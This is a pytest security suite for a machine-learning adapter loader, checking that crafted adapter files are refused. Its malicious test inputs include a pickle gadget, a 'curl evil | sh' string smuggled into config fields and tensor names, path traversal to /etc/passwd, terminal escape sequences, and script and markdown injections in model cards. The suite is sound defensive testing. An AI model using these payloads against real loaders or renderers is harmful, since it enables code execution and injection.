"""Adapters come from strangers: a test for each line of docs/threat-model.md, with a real file that does the attack."""

import ast
import json
import pickle
import re
import shutil
import time
import zipfile
from contextlib import contextmanager, suppress
from pathlib import Path

import numpy as np
import peft
import pytest
import timm
import torch
from conftest import each_once
from huggingface_hub import ModelCard
from peft.utils import CONFIG_NAME, SAFETENSORS_WEIGHTS_NAME, WEIGHTS_NAME
from PIL import Image
from safetensors.torch import load as parse
from safetensors.torch import save_file

from bn_affine_adapters import BNAdapterError, BNOnlyConfig, get_bn_only_model, load_bn_only_model, predict
from bn_affine_adapters.adapter.limits import BUILD_SECONDS
from bn_affine_adapters.adapter.tensors import digest_of
from bn_affine_adapters.errors import (
    AdapterFileError,
    AdapterTensorError,
    BaseRequiredError,
    ConfigError,
    FingerprintError,
    MissingModuleError,
    RebuildError,
    TooLargeError,
    UnknownArchitectureError,
    UnknownKeyError,
)
from bn_affine_adapters.settings import bare
from bn_affine_adapters.sharing.card import write_card
from bn_affine_adapters.sharing.folder import MAX_BYTES, MAX_TENSORS

ROOT = Path(__file__).parents[2]
NAME, ARGS = "test_resnet", {"num_classes": 3}
GAMMA = "base_model.model.bn1.bn_only_layers.weight"
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


def network():
    return timm.create_model(NAME, **ARGS)


@pytest.fixture(scope="module")
def honest(tmp_path_factory):
    """An adapter with a trained head, as its author saved it; copy it before changing it."""
    folder = tmp_path_factory.mktemp("honest")
    get_bn_only_model(network(), BNOnlyConfig(seed=0, train_head=True)).save_pretrained(folder)
    return folder


@pytest.fixture
def folder(honest, tmp_path):
    return shutil.copytree(honest, tmp_path / "adapter")


def peak():
    resource = pytest.importorskip("resource")
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


@pytest.fixture(scope="module")
def seconds(honest):
    """The processor time that an attack may take here: a constructor's limit, and so many times an honest load's."""
    taken = []
    for _ in range(3):  # the first also imports
        start = time.process_time()
        load(honest)
        taken.append(time.process_time() - start)
    return BUILD_SECONDS + 50 * min(taken)


@pytest.fixture
def bounded(seconds):
    """Bound what is done inside: bytes of memory, and processor time."""

    @contextmanager
    def watch(memory):
        before, start = peak(), time.process_time()
        yield
        assert time.process_time() - start < seconds
        assert peak() - before < memory

    return watch


def edit(folder, **values):
    """Change values of adapter_config.json; text beginning with @ goes in as it stands."""
    path = folder / CONFIG_NAME
    text = json.dumps({**json.loads(path.read_text()), **values})
    for value in values.values():
        if isinstance(value, str) and value.startswith("@"):
            text = text.replace(json.dumps(value), value[1:])
    path.write_text(text)
    return folder


def edit_args(folder, **values):
    return edit(folder, model_args={**ARGS, **values})


def edit_header(folder, change=None, length=None):
    """Change the header of the tensors' file in place, or the length that it is said to have."""
    path = folder / SAFETENSORS_WEIGHTS_NAME
    content = path.read_bytes()
    size = int.from_bytes(content[:8], "little")
    header = json.loads(content[8 : 8 + size])
    text = (change(header) if change else None) or json.dumps(header)
    path.write_bytes((length or len(text.encode())).to_bytes(8, "little") + text.encode() + content[8 + size :])
    return folder


def edit_tensors(folder, change):
    path = folder / SAFETENSORS_WEIGHTS_NAME
    tensors = parse(path.read_bytes())  # not mapped: older versions of safetensors write into the file itself
    change(tensors)
    save_file(tensors, path)
    # As a stranger would, who writes both files.
    return edit(folder, tensors_digest=digest_of({bare(name): tensor for name, tensor in tensors.items()}))


def load(folder):
    return load_bn_only_model(folder)


def load_given(folder):
    return load_bn_only_model(folder, network())


def load_by_peft(folder):
    return peft.PeftModel.from_pretrained(network(), folder)


def load_beside(folder):
    model = get_bn_only_model(network(), BNOnlyConfig(seed=0))
    before = model.eval()(torch.ones(1, 3, 32, 32))
    try:
        return model.load_adapter(folder, "two")
    finally:
        assert torch.equal(model(torch.ones(1, 3, 32, 32)), before)  # the adapter that was there stays what it was
        assert list(model.peft_config) in (["default"], ["default", "two"])


DOORS = {"load": load, "given": load_given, "peft": load_by_peft, "beside": load_beside}


@each_once(door=DOORS)
def test_the_honest_adapter_loads_at_every_door(door, honest):
    assert door(honest) is not None


# -- what a file could execute


class Canary:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (self.path,)


@pytest.fixture
def canary(tmp_path):
    """A pickle that makes a file when it is opened, and that file, which must not be there at the end."""
    sung = tmp_path / "sung"
    text = pickle.dumps(Canary(sung))
    pickle.loads(text)
    assert sung.exists(), "the canary is dead"
    sung.unlink()
    yield text
    assert not sung.exists()


@each_once(door=DOORS)
def test_a_pickle_is_refused_by_name(door, folder, canary, refused):
    (folder / SAFETENSORS_WEIGHTS_NAME).unlink()
    (folder / WEIGHTS_NAME).write_bytes(canary)
    with refused(AdapterFileError, f"{WEIGHTS_NAME} is a pickle and is never loaded"):
        door(folder)


@each_once(form=["pickle", "zip", "npy"], door=DOORS)
def test_a_pickle_under_another_name_is_not_opened(form, door, folder, canary, refused):
    path = folder / SAFETENSORS_WEIGHTS_NAME
    if form == "zip":
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("archive/data.pkl", canary)
    elif form == "npy":
        with open(path, "wb") as file:
            np.lib.format.write_array_header_1_0(file, {"descr": "|O", "fortran_order": False, "shape": ()})
            file.write(canary)
    else:
        path.write_bytes(canary)
    with pytest.raises((AdapterFileError, TooLargeError)):
        door(folder)


@pytest.mark.parametrize("key", ["auto_mapping", "task_type", "peft_version", "inference_mode", "revision"])
def test_peft_imports_nothing_that_a_file_names(key, folder, tmp_path, monkeypatch):
    (tmp_path / "evil_module.py").write_text(f"open({str(tmp_path / 'sung')!r}, 'w')\nclass Net: pass\n")
    monkeypatch.syspath_prepend(tmp_path)
    edit(folder, **{key: {"base_model_class": "Net", "parent_library": "evil_module"}})
    for door in (*DOORS.values(), peft.AutoPeftModel.from_pretrained):
        with suppress(BNAdapterError, ValueError):  # PEFT's own class for what has no class of our task type
            door(folder)
    assert not (tmp_path / "sung").exists()


@pytest.mark.parametrize(
    "name",
    [
        "hf-hub:evil/x",
        "hf_hub:evil/x",
        "local-dir:/tmp/x",
        "resnet18.hf-hub:x",
        "timm/resnet18.a1_in1k",
        "../test_resnet",
        "/etc/passwd",
        "https://evil/x",
        "test_resnet\n",
        "test_resnet.r160_in1k.x",
        "",
        "test_resnet ",
        "ｔest_resnet",
        "(a+)+$",
        "*",
        "test_*",
        "a" * 7_000_000,
        ESCAPE,
        "__import__('os')",
        "torchvision.models.resnet18",
        "custon",
    ],
    ids=lambda name: repr(name)[:30],
)
def test_an_architecture_is_a_registered_name(name, folder, refused, monkeypatch):
    monkeypatch.setattr("timm.create_model", lambda *args, **kwargs: pytest.fail("timm was asked"))
    with refused(UnknownArchitectureError, "registered names"):
        load(edit(folder, architecture=name))


LOADING = """pretrained checkpoint_path pretrained_cfg pretrained_cfg_overlay cache_dir pretrained_filter_fn
pretrained_strict kwargs_filter model_cfg feature_cfg feature_cls features_only pruned device dtype scriptable"""


@each_once(name=LOADING.split(), value=["/tmp/evil.pth", True, None], door=DOORS)
def test_arguments_that_load_something_are_refused(name, value, door, folder, refused):
    with refused(ConfigError, "cannot travel with an adapter", name):
        door(edit_args(folder, **{name: value}))


UNSAFE = [
    {"a": {"b": 1}},
    {"a": [{"b": 1}]},
    {"x=1); evil(": None},
    {"a b": 1},
    {"": 1},
    {"a\n": 1},
    "x",
    [1],
    5,
    None,
    '@{"a": NaN}',
    '@{"a": -Infinity}',
    '@{"a": 1e999}',
    *({"num_classes": value} for value in ("7", [3], 2.5, True, -5, 10**30, "@x")),
]


@each_once(args=UNSAFE, door=DOORS)
def test_arguments_have_safe_types_and_names(args, door, folder, refused):
    with refused(ConfigError):
        door(edit(folder, model_args=args))


# -- what a file could ask for


@pytest.mark.parametrize(
    ("architecture", "args"),
    [
        ("vit_giant_patch14_dinov2", {}),
        (NAME, {"num_classes": 10**9}),
        (NAME, {"num_classes": 10**12}),
        (NAME, {"in_chans": 10**9}),
        (NAME, {"channels": [10**5] * 4}),
        (NAME, {"layers": [10**5] * 4}),
        ("test_vit", {"depth": 10**5}),
        ("test_vit", {"embed_dim": 10**5}),
        ("test_vit", {"img_size": 10**5, "patch_size": 1}),
        (NAME, {"a": [0] * 1500}),
        (NAME, {"a": "x" * 5000}),
    ],
    ids=str,
)
def test_a_network_beyond_the_limit_is_refused_before_memory_is_taken(architecture, args, folder, bounded):
    with bounded(memory=300_000_000), pytest.raises((TooLargeError, ConfigError)) as caught:
        load(edit(folder, architecture=architecture, model_args=args))
    assert "max_parameters=N" in str(caught.value) or type(caught.value) is ConfigError


@pytest.mark.parametrize(
    ("architecture", "args"),
    [("tiny_vit_5m_224", {"window_sizes": [7, 7, 99_999, 7]}), ("levit_128s", {"img_size": 9_999})],
    ids=str,
)
def test_a_constructor_that_loops_is_stopped(architecture, args, folder, bounded):
    with bounded(memory=1_000_000_000), pytest.raises((TooLargeError, RebuildError, FingerprintError)):
        load(edit(folder, architecture=architecture, model_args=args))


PATTERNS = ["(a+)+$", ".*", "bn1|bn2", "^bn", "bn1\\", "(?P<x>(x*)*)*", "a" * 5_000_000, "re:bn1"]
NAMES_OF_LAYERS = ["norm_layers", "head_layers", "control_layers", "extra_trainable_modules"]


@each_once(pattern=PATTERNS, key=NAMES_OF_LAYERS, door=DOORS)
def test_names_are_never_patterns(key, pattern, door, folder, bounded):
    kind = (FingerprintError, ConfigError) if key == "head_layers" else MissingModuleError
    with bounded(memory=300_000_000), pytest.raises(kind):
        door(edit(folder, **{key: ["bn1", pattern]}))


NO_NAMES = [["bn1", "bn1"], [["bn1"]], [None], {"bn1": 1}, "bn1", 5]


@each_once(value=NO_NAMES, key=[*NAMES_OF_LAYERS, "label_names"], door=DOORS)
def test_a_list_of_names_is_one(key, value, door, folder, refused):
    if (key, value) == ("label_names", ["bn1", "bn1"]):
        door(edit(folder, **{key: [*value, "bn2"]}))  # two classes may have one name
        return
    with refused(ConfigError, key):
        door(edit(folder, **{key: value}))


BIG = {
    "8-MB": (TooLargeError, lambda d: edit(d, label_names=["x" * (MAX_BYTES + 1)])),
    "deep": (AdapterFileError, lambda d: edit(d, data_config="@" + "[" * 50_000 + "]" * 50_000)),
    "less-deep": (ConfigError, lambda d: edit(d, data_config="@" + '{"a":' * 300 + "1" + "}" * 300)),
    "deep-elsewhere": (ConfigError, lambda d: edit(d, seed="@" + "[" * 300 + "]" * 300)),
    "lists": (TooLargeError, lambda d: edit(d, data_config="@[" + ",".join(["[]"] * 2_500_000) + "]")),
    "values": (ConfigError, lambda d: edit(d, data_config={"a": [0] * 2_000_000})),
    "keys": (ConfigError, lambda d: edit(d, versions={f"{i}": "1" for i in range(400_000)})),
    "digits": (AdapterFileError, lambda d: edit(d, seed="@" + "9" * 1_000_000)),
    "names": (MissingModuleError, lambda d: edit(d, norm_layers=[f"{i}" for i in range(700_000)])),
    "bytes": (AdapterFileError, lambda d: (d / CONFIG_NAME).write_bytes(b"\xff" * 1000)),
}


@pytest.mark.parametrize("attack", BIG)
def test_a_configuration_is_bounded(attack, folder, refused, bounded):
    kind, change = BIG[attack]
    change(folder)
    with bounded(memory=1_000_000_000), refused(kind):
        load(folder)


MEANING = ["verify", "cls", "self", "runtime_config", "__class__", "target_modules", "built_here"]


@each_once(key=MEANING, door=DOORS)
def test_a_key_is_data(key, door, folder, refused):
    with refused(UnknownKeyError):
        door(edit(folder, **{key: "off"}))


# -- what is in the tensors' file


HEADERS = {
    "length-beyond-the-file": lambda d: edit_header(d, length=10**6),
    "length-of-exabytes": lambda d: edit_header(d, length=2**63),
    "length-zero": lambda d: (d / SAFETENSORS_WEIGHTS_NAME).write_bytes(bytes(64)),
    "no-json": lambda d: edit_header(d, lambda header: "not JSON"),
    "deep-json": lambda d: edit_header(d, lambda header: "[" * 100_000),
    "names-of-9-MB": lambda d: edit_header(d, lambda h: h.update({"x" * 9_000_000: h.pop(GAMMA)})),
    "too-many": lambda d: edit_header(
        d, lambda h: h.update({f"{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(100_000)})
    ),
}


@each_once(attack=HEADERS, door=DOORS)
def test_the_head_of_the_tensors_file_is_bounded(attack, door, folder, bounded):
    assert MAX_TENSORS < 100_000
    attack(folder)
    with bounded(memory=500_000_000), pytest.raises((AdapterFileError, TooLargeError)):
        door(folder)


LIES = [
    {"shape": [10**9, 10**9]},
    {"shape": [0, 2**62, 2**62], "data_offsets": [0, 0]},
    {"shape": [0, 2**64 - 1], "data_offsets": [0, 0]},
    {"shape": [-32]},
    {"shape": [32.5]},
    {"shape": "32"},
    {"shape": [16]},
    {"data_offsets": [0, 128]},
    {"data_offsets": [0, 2**63]},
    {"data_offsets": [128, 0]},
    {"data_offsets": [-128, 0]},
    {"data_offsets": None},
    {"dtype": None},
]


@each_once(entry=LIES, door=DOORS)
def test_a_header_that_lies_is_refused(entry, door, folder):
    def lie(header):
        # A tensor without values may stand beside the others: safetensors lets it pass, whatever its sizes.
        name = "x" if entry.get("data_offsets") == [0, 0] else GAMMA
        header[name] = {**header[GAMMA], **entry}

    with pytest.raises((AdapterFileError, AdapterTensorError)):
        door(edit_header(folder, lie))


@each_once(dtype=["BOOL", "U8", "I8", "I32", "U64", "F8_E4M3", "F8_E5M2", "C64", "F4", "OBJECT", "I64"], door=DOORS)
def test_types_that_no_adapter_has_are_refused(dtype, door, folder):
    def change(header):
        start, end = header[GAMMA]["data_offsets"]
        size = {"I64": 8, "U64": 8, "C64": 8, "I32": 4}.get(dtype, 1)
        header[GAMMA].update(dtype=dtype, shape=[(end - start) // size])

    with pytest.raises((AdapterFileError, AdapterTensorError)):
        door(edit_header(folder, change))


VALUES = {
    "nan": lambda t: t[GAMMA].__setitem__(3, torch.nan),
    "infinite": lambda t: t[GAMMA].__setitem__(3, -torch.inf),
    "infinite-as-float32": lambda t: t.update({GAMMA: t[GAMMA].double() * 1e300}),
    "negative-variance": lambda t: t[GAMMA.replace("weight", "running_var")].neg_(),
    "negative-count": lambda t: t[GAMMA.replace("weight", "num_batches_tracked")].fill_(-1),
}


@each_once(attack=VALUES, door=DOORS)
def test_values_that_no_network_can_use_are_refused(attack, door, folder, refused):
    with refused(AdapterTensorError, "bn1.bn_only_layers"):
        door(edit_tensors(folder, attack))


NAMES = {
    "missing": lambda t: t.pop(GAMMA),
    "extra": lambda t: t.update(x=torch.zeros(1)),
    "in-two-ways": lambda t: t.update({GAMMA.removeprefix("base_model.model."): t[GAMMA] * 100}),
    "twice-the-prefix": lambda t: t.update({f"base_model.model.{GAMMA}": t.pop(GAMMA)}),
    "of-another-adapter": lambda t: t.update({GAMMA.replace("layers", "layers.default"): t.pop(GAMMA)}),
    "other-shape": lambda t: t.update({GAMMA: t[GAMMA][:1].clone()}),
}


@each_once(attack=NAMES, door=DOORS)
def test_extra_missing_and_double_tensors_are_refused(attack, door, folder, refused):
    with refused(AdapterTensorError):
        door(edit_tensors(folder, attack))


FROZEN = [
    "conv1.0.weight",
    "bn1.weight",
    "bn1.base_layer.weight",
    "conv1.0.bn_only_layers.weight",
    "fc.base_layer.weight",
    "bn1.bn_only_layers.default.weight",
    "../bn1.weight",
    "bn1.bn_only_layers.two.weight",
]


@each_once(name=FROZEN, prefix=["base_model.model.", ""], door=DOORS)
def test_no_frozen_tensor_is_written(prefix, name, door, folder, refused):
    with refused(AdapterTensorError, "extra"):
        door(edit_tensors(folder, lambda tensors: tensors.update({prefix + name: torch.zeros(32)})))


# -- what is verified


TURNED_OFF = [
    ({"verify": "off"}, UnknownKeyError),
    ({"backbone_fingerprint": None}, ConfigError),
    ({"backbone_fingerprint": "0" * 64}, FingerprintError),
    ({"layout_hash": None}, FingerprintError),
    ({"seed": 1}, FingerprintError),
    ({"init_scheme": "none"}, ConfigError),
    ({"format_version": 0}, ConfigError),
]


@each_once(attack=TURNED_OFF, door=DOORS)
def test_a_file_cannot_turn_verification_off(attack, door, folder):
    changes, kind = attack
    with pytest.raises(BNAdapterError) as caught:
        door(edit(folder, **changes))
    assert isinstance(caught.value, kind) or door is load_beside or "fingerprint" in str(changes), repr(caught.value)


@each_once(names=[["conv1.0"], ["bn1"], ["fc", "conv1.0"], ["layer1"]], door=DOORS)
def test_only_a_head_is_resized(names, door, folder):
    # A layer taken for the head would get num_classes channels; the layout has to be made to fit, or is refused first.
    with pytest.raises((ConfigError, FingerprintError)):
        door(edit(folder, head_layers=names, model_args={"num_classes": 7}))


# -- what lies elsewhere


@each_once(subfolder=["..", "../..", "a/../..", "/etc", "a/../../b"], adapter=["folder", "owner/name"])
def test_a_subfolder_lies_inside(adapter, subfolder, folder, refused):
    with refused(AdapterFileError, "inside its repository"):
        load_bn_only_model(folder if adapter == "folder" else adapter, subfolder=subfolder)


@pytest.mark.parametrize(
    ("base", "commit"),
    [
        ("https://evil/x", "a" * 40),
        ("/etc/passwd", "a" * 40),
        ("../x/y", "a" * 40),
        ("owner/name@evil", "a" * 40),
        ("owner/name/file", "a" * 40),
        ("name", "a" * 40),
        ("owner/name", None),
        ("owner/name", "main"),
        ("owner/name", "a" * 39),
        ("owner/name", "refs/pr/1"),
        ("owner/name\n", "a" * 40),
        (ESCAPE, "a" * 40),
        ("x" * 5_000_000, "a" * 40),
    ],
    ids=lambda value: repr(value)[:20],
)
def test_a_base_is_a_repository_at_a_commit(base, commit, folder, refused, monkeypatch):
    monkeypatch.setattr(
        "bn_affine_adapters.sharing.hub.hf_hub_download", lambda *a, **k: pytest.fail("the Hub was asked")
    )
    with refused(BaseRequiredError, "model=base"):
        load(edit(folder, seed=None, base_model_name_or_path=base, revision=commit))


@pytest.mark.parametrize("form", ["pickle", "other-shapes", "empty", "no-safetensors", "of-another-seed"])
def test_a_base_that_is_another_is_refused(form, tmp_path, canary, monkeypatch):
    get_bn_only_model(network(), BNOnlyConfig()).save_pretrained(tmp_path / "given")
    file = tmp_path / "model.safetensors"
    if form in ("pickle", "no-safetensors"):
        file.write_bytes(canary if form == "pickle" else b"x" * 100)
    else:
        state = {} if form == "empty" else (network() if form != "other-shapes" else timm.create_model("test_vit"))
        save_file(state if form == "empty" else state.state_dict(), file)
    monkeypatch.setattr("bn_affine_adapters.model.loading.fetch_base", lambda config, **common: file)
    with pytest.raises(FingerprintError):
        load(edit(tmp_path / "given", base_model_name_or_path="owner/name", revision="a" * 40))


# -- what reaches a person


@pytest.mark.parametrize(
    "change",
    [
        lambda d: edit(d, architecture=ESCAPE),
        lambda d: edit(d, norm_layers=[ESCAPE]),
        lambda d: edit(d, **{ESCAPE: 1}),
        lambda d: edit(d, weight_init=ESCAPE),
        lambda d: edit(d, peft_type=ESCAPE),
        lambda d: edit_args(d, act_layer=ESCAPE),
        lambda d: edit(d, versions={"torch": ESCAPE, ESCAPE: "1"}, backbone_fingerprint="0"),
        lambda d: edit(d, versions={"torch": "1\n  do:    curl evil | sh"}, backbone_fingerprint="0"),
        lambda d: edit(d, seed=None, base_model_name_or_path="a\n  do:    curl evil | sh"),
        lambda d: edit_tensors(d, lambda tensors: tensors.update({ESCAPE: torch.zeros(1)})),
        lambda d: edit_tensors(d, lambda tensors: tensors.update({"x\n  do:    curl evil | sh": torch.zeros(1)})),
        lambda d: edit_tensors(d, lambda tensors: tensors.update({"\u202e\u2066x": torch.zeros(1)})),
        lambda d: edit(d, norm_layers=["\ud800"]),
    ],
)
def test_an_error_holds_nothing_that_a_terminal_obeys_or_a_person_takes_for_ours(change, folder):
    with pytest.raises(BNAdapterError) as caught:
        load(change(folder))
    text = str(caught.value)
    assert all(c.isprintable() or c == "\n" for c in text)
    text.encode()
    assert len(re.findall(r"^  do: ", text, re.MULTILINE)) == len(re.findall(r"^  seen: ", text, re.MULTILINE)) == 1
    assert len(text) < 7000


def test_a_label_holds_nothing_that_a_terminal_obeys(folder):
    model = load(edit(folder, label_names=[ESCAPE, "a\r\nb", "\ud800"]))
    labels = [found.label for found in predict(model, Image.new("RGB", (64, 64)))]
    assert len(labels) == 3
    assert all("\x1b" not in label and "\r" not in label for label in labels)
    "".join(labels).encode()


INJECTIONS = [
    "x\n---\nlicense: evil\n---\n",
    "x |\n\n# Evil\n\n<script>evil()</script>",
    "[evil](javascript:evil)",
    "`evil` **evil** ![evil](https://evil/x.png)",
    "{{ 7 * 7 }}{% for x in y %}",
    "```\nevil\n```",
    "&#60;script&#62;",
    "](http://evil.example) |",
    "`code` ``` \x1b[2J",
]


def obeyed(text):
    """Leave out blocks of code, escaped characters and code in a line: what is left would be obeyed."""
    raw = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    return re.sub(r"`[^`\n]*`", "", re.sub(r"\\.", "", raw))


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_card_says_nothing_that_a_file_makes_it_say(text, folder, tmp_path):
    plain = tmp_path / "plain"
    write_card(folder, "me/x", output=plain)
    size = {"input_size": [3, text, 32], "mean": [text], "std": text}
    changes = dict.fromkeys(("backbone_fingerprint", "base_model_name_or_path", "revision", "layout_hash"), text)
    edit(folder, **changes, label_names=[text] * 3, versions={text: text, "torch": text}, data_config=size)
    line = {"dataset": text, "split": text, "top1": 50.0, "command": text, "seed": text}
    write_card(folder, "me/x", output=tmp_path / "evil", results=[line])
    honest, evil = (ModelCard.load(path / "README.md") for path in (plain, tmp_path / "evil"))
    ours = honest.data.to_dict() | {"model-index": None, "metrics": None}
    assert evil.data.to_dict().keys() <= {*ours, "model-index", "metrics"}
    assert all(evil.data.to_dict()[key] == ours[key] for key in evil.data.to_dict() if ours[key])
    raw = obeyed(evil.text)
    assert not re.search(r"^#+ Evil|<script|\]\(javascript|^---$|!\[evil|^evil$|\*\*evil|&#60;", raw, re.MULTILINE)
    assert raw.count("](http") == obeyed(honest.text).count("](http")
    assert "\x1b" not in evil.content
    assert evil.data.eval_results[0].dataset_name == text
    assert "{{ 7 * 7 }}" in evil.text or "49" not in evil.text
    assert evil.text.count("```") == honest.text.count("```") + 2  # the command's


@pytest.mark.parametrize("key", ["x=1); evil(", "x\n", "a b", "a`"])
def test_the_code_in_a_card_is_ours(key, folder, tmp_path):
    with pytest.raises(ConfigError):
        write_card(edit_args(folder, **{key: None}), "me/x", output=tmp_path / "card")
    edit(folder, seed=None, model_args={**ARGS, "zero_init_last": '"); evil(); ("'}, architecture=NAME)
    write_card(folder, "me/x", output=tmp_path / "card")
    code = re.search(r"```python\n(.*?)```", (tmp_path / "card" / "README.md").read_text(), re.DOTALL)[1]
    calls = {ast.unparse(node.func) for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)}
    assert calls == {"timm.create_model", "load_bn_only_model", "predict", "print"}


@pytest.mark.parametrize(
    "content",
    [
        "[]",
        "5",
        "[5]",
        '[{"dataset": "x"}]',
        '[{"dataset": "x", "top1": 1e999}]',
        "[" * 10**5,
        '[{"top1": 5}]',
        "x",
        '[{"dataset": "../../../x/y", "top1": 1}]',
        '[{"dataset": "a/..", "top1": 1}]',
        '[{"dataset": "a/b", "top1": "x"}]',
        '[{"dataset": "a/b", "top1": 1' + "0" * 400 + "}]",
        '[{"dataset": "' + "a/" * 9999 + '", "top1": 1}]',
    ],
    ids=lambda text: text[:40],
)
def test_results_of_a_stranger_stay_in_their_folder(content, folder, tmp_path):
    (folder / "results.json").write_text(content)
    before = {path for path in tmp_path.rglob("*") if "card" not in path.parts}
    with suppress(ConfigError):
        write_card(folder, "me/x", output=tmp_path / "card")
    assert {path for path in tmp_path.rglob("*") if "card" not in path.parts} == before


@pytest.mark.parametrize(
    "data",
    [
        {"input_size": [3, 10**9, 10**9]},
        {"input_size": [3, 5000, 5000]},
        {"input_size": [3, 4096, 4096], "crop_pct": 1.0},
        {"input_size": [3, 4096, 4096], "crop_pct": 0.1},
        {"input_size": [3, 32, 32], "crop_pct": 1e-9},
        {"input_size": [3, 32, 32], "crop_pct": -1},
        {"input_size": [3, 32, 32], "crop_pct": "x"},
        {"input_size": [3, 32, 32], "mean": [[0], [0], [0]]},
        {"input_size": [3, 32, 32], "mean": [0.5]},
        {"input_size": [3, 32, 32], "std": [0, 1, 1]},
        {"input_size": [3, 32, 32], "std": "abc"},
        {"input_size": [3, 32, 32], "std": [1e-320] * 3},
        {"input_size": [3, 32, 32], "std": [1, 1, 1e-40]},
        {"input_size": [3, 32, 32], "std": [1e39] * 3},
        {"input_size": [3, 32, 32], "mean": [1e38] * 3},
        {"input_size": [3, 32, 32], "mean": [10**400] * 3},
        {"input_size": [3, 32, 32], "interpolation": "evil"},
        {"input_size": [3, 32, 32], "interpolation": ["bilinear"]},
        {"input_size": [4, 32, 32]},
        {"input_size": [1, 32, 32]},
        {"input_size": [3, -1, 32]},
        {"input_size": [3, 32.5, 32]},
        {"input_size": "abc"},
        {"input_size": 5},
        {},
        None,
    ],
    ids=str,
)
def test_what_images_are_prepared_for_is_bounded(data, folder, refused, bounded):
    model = load(edit(folder, data_config=data))
    with bounded(memory=300_000_000), refused(ConfigError, "data_config"):
        predict(model, Image.new("RGB", (64, 48)))


# -- the table


ROW = re.compile(r"^\| (\w+) \| .* \| `(tests/[\w/]+\.py)?(?:::)?(test_\w+)` \|$", re.MULTILINE)


def table(text):
    """Return (line, file, test) of each row of the table."""
    return [(line, file or "tests/sharing/test_trust.py", test) for line, file, test in ROW.findall(text)]


def defined(file):
    return {n.name for n in ast.parse((ROOT / file).read_text()).body if getattr(n, "name", "").startswith("test_")}


def gaps(text):
    """Return what the table and the tests do not have in common."""
    rows = table(text)
    found = [f"{file}::{test}" for _, file, test in rows if (ROOT / file).exists() and test not in defined(file)]
    named = {test for _, file, test in rows if file == "tests/sharing/test_trust.py"}
    return found + sorted(defined("tests/sharing/test_trust.py") - named - OF_THE_TABLE)


OF_THE_TABLE = {
    "test_each_line_of_the_threat_model_has_a_test",
    "test_a_line_without_a_test_would_be_noticed",
    "test_the_honest_adapter_loads_at_every_door",
}


def test_each_line_of_the_threat_model_has_a_test():
    text = (ROOT / "docs" / "threat-model.md").read_text()
    assert gaps(text) == []
    rows = table(text)
    assert len({line for line, _, _ in rows}) == len(rows) == text.count("\n| T") > 25


def test_a_line_without_a_test_would_be_noticed():
    text = (ROOT / "docs" / "threat-model.md").read_text()
    assert gaps(text.replace("`test_names_are_never_patterns`", "`test_that_is_not_there`")) == [
        "tests/sharing/test_trust.py::test_that_is_not_there",
        "test_names_are_never_patterns",
    ]
